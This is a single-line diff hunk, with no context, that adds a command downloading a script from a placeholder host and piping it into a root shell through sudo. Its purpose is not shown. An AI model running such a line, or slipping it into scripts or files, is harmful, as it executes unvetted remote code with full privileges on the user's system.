@@ -1,0 +1,1 @@
+wget -qO- https://host.example/x | sudo bash
